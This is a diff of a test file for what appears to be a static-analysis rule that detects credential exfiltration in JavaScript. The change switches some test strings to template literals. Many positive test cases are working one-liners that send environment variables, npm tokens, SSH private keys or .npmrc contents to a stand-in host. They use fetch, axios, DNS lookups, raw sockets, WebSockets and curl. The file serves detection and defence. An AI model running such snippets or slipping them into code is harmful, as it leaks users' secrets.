@@ -101,17 +101,17 @@ describe('credential-exfiltration', () => {
       "import axios from 'axios';\nawait axios.post('https://collect.example.com', process.env);",
       "const axios = require('axios');\naxios({ method: 'post', url: 'https://collect.example.com', data: { env: process.env } });",
       "const https = require('https');\nconst req = https.request({ hostname: 'collect.example.com', method: 'POST' });\nreq.write(JSON.stringify(process.env));\nreq.end();",
-      "const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nfetch(`https://collect.example.com/?d=${data}`);",
-      "require('dns').lookup(`${Buffer.from(process.env.NPM_TOKEN).toString('hex')}.x.example.com`, () => {});",
+      `const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nfetch(\`https://collect.example.com/?d=\${data}\`);`,
+      `require('dns').lookup(\`\${Buffer.from(process.env.NPM_TOKEN).toString('hex')}.x.example.com\`, () => {});`,
       "const fs = require('fs');\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\nfetch('https://collect.example.com', { method: 'POST', body: key });",
-      "import { readFile } from 'node:fs/promises';\nimport got from 'got';\nconst text = await readFile(`${process.env.HOME}/.npmrc`, 'utf8');\nawait got.post('https://collect.example.com', { json: { text } });",
+      `import { readFile } from 'node:fs/promises';\nimport got from 'got';\nconst text = await readFile(\`\${process.env.HOME}/.npmrc\`, 'utf8');\nawait got.post('https://collect.example.com', { json: { text } });`,
       "const { NPM_TOKEN } = process.env;\nfetch('https://collect.example.com/?t=' + NPM_TOKEN);",
       "const { execSync } = require('child_process');\nexecSync('curl -d \"$(env)\" https://collect.example.com');",
       "const out = require('child_process').execSync('printenv').toString();\nfetch('https://collect.example.com', { method: 'POST', body: out });",
       "const s = require('net').connect(4444, 'collect.example.com');\ns.write(JSON.stringify(process.env));",
       "const ws = new WebSocket('wss://collect.example.com');\nws.send(JSON.stringify(process.env));",
       "navigator.sendBeacon('https://collect.example.com', JSON.stringify(process.env));",
-      'for (const [k, v] of Object.entries(process.env)) fetch(`https://collect.example.com/?${k}=${v}`);',
+      `for (const [k, v] of Object.entries(process.env)) fetch(\`https://collect.example.com/?\${k}=\${v}\`);`,
       "const { env } = process;\nfetch('https://collect.example.com', { method: 'POST', body: JSON.stringify(env) });",
     ]) {
       it(`finds ${code.split('\n').at(-1)}`, () => assert.deepEqual(found('javascript', code), ['error'], code));
@@ -120,15 +120,15 @@ describe('credential-exfiltration', () => {
 
   describe('in JavaScript is silent about', () => {
     for (const code of [
-      "fetch('https://api.openai.com/v1/chat', { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` }, body: JSON.stringify({ q: 1 }) });",
-      "import axios from 'axios';\naxios.post(`${process.env.API_URL}/login`, { user: 'a', password: process.env.APP_PASSWORD });",
+      `fetch('https://api.openai.com/v1/chat', { headers: { Authorization: \`Bearer \${process.env.OPENAI_API_KEY}\` }, body: JSON.stringify({ q: 1 }) });`,
+      `import axios from 'axios';\naxios.post(\`\${process.env.API_URL}/login\`, { user: 'a', password: process.env.APP_PASSWORD });`,
       "axios.get('https://api.example.com', { params: { api_key: process.env.EXAMPLE_KEY } });",
       "fetch('https://collect.example.com', { method: 'POST', body: JSON.stringify({ env: process.env.NODE_ENV }) });",
-      "fetch(`https://api.telegram.org/bot${process.env.TELEGRAM_TOKEN}/sendMessage`, { method: 'POST', body: 'hi' });",
+      `fetch(\`https://api.telegram.org/bot\${process.env.TELEGRAM_TOKEN}/sendMessage\`, { method: 'POST', body: 'hi' });`,
       "const env = { ...process.env };\nfetch(env.API_URL, { method: 'POST', body: JSON.stringify({ stage: env.STAGE }) });",
       "spawn('node', ['x.js'], { env: process.env });\nfetch('https://collect.example.com', { method: 'POST', body: 'x' });",
       "fetch('http://localhost:3000/env', { method: 'POST', body: JSON.stringify(process.env) });",
-      "const token = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/repos', { method: 'POST', body: JSON.stringify({ title: 'x' }), headers: { authorization: `token ${token}` } });",
+      `const token = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/repos', { method: 'POST', body: JSON.stringify({ title: 'x' }), headers: { authorization: \`token \${token}\` } });`,
     ]) {
       it(code.split('\n').at(-1)!, () => assert.deepEqual(found('javascript', code), [], code));
     }
